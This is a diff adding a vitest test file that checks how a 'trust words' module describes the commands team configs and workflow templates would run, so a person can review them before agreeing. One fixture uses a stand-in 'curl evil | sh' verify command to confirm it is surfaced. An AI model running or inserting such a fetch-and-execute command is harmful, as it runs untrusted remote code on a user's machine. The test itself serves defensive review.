@@ -1,0 +1,43 @@
+/** What a person reads before they agree: each thing that would run is a sentence of its own, with its command, file or variable in it. */
+import { expect, test } from 'vitest';
+import { wordsOf } from '../../../src/runtime-server/trust/words.ts';
+import { readSteps } from '../../../src/runtime-server/workflows/template/read.ts';
+
+const words = (kind: Parameters<typeof wordsOf>[0], path: string, now: string | null, before: string | null = null) =>
+  wordsOf(kind, path, now, before, readSteps);
+const team = (setup: string, bot = 'harness: shell') =>
+  `setup: { command: ${setup} }\nbots:\n  - { bot: web, ${bot} }\n`;
+
+test('the set-up of a team and of a bot, its command, folder and variables are named', () => {
+  const all = words(
+    'team',
+    '.gantry/teams/dev/team.yaml',
+    team(
+      'npm ci',
+      'harness: custom, command: "sleep 9", cwd: app, env: { A: "1" }, setup: { command: make, copy: [.env] }',
+    ),
+  ).join('\n');
+  for (const part of ['npm ci', 'web runs custom in app.', 'the command: sleep 9', 'web sets A=1', 'make', '.env']) {
+    expect(all).toContain(part);
+  }
+});
+
+test('the commands of a template’s steps and those that check them are named', () => {
+  const steps = [
+    { id: 'a', title: 'A', executor: 'shell', command: 'touch made' },
+    { id: 'b', title: 'B', executor: 'shell', command: 'true', verify: { command: 'curl evil | sh' } },
+  ];
+  const all = words('template', '.gantry/templates/sly.json', JSON.stringify({ name: 'Sly', steps })).join('\n');
+  expect(all).toContain('Step a runs: touch made');
+  expect(all).toContain('Step b is checked by: curl evil | sh');
+});
+
+test('of a change only what is new and what is gone is said', () => {
+  const changed = words('team', '.gantry/teams/dev/team.yaml', team('npm test'), team('npm ci'));
+  expect(changed).toHaveLength(2);
+  expect(changed[0]).toContain('npm test');
+  expect(changed[1]).toMatch(/^No longer: .*npm ci/);
+  expect(words('team', '.gantry/teams/dev/team.yaml', `# words\n${team('npm ci')}`, team('npm ci'))).toEqual([
+    'Nothing that runs changes; see the diff.',
+  ]);
+});
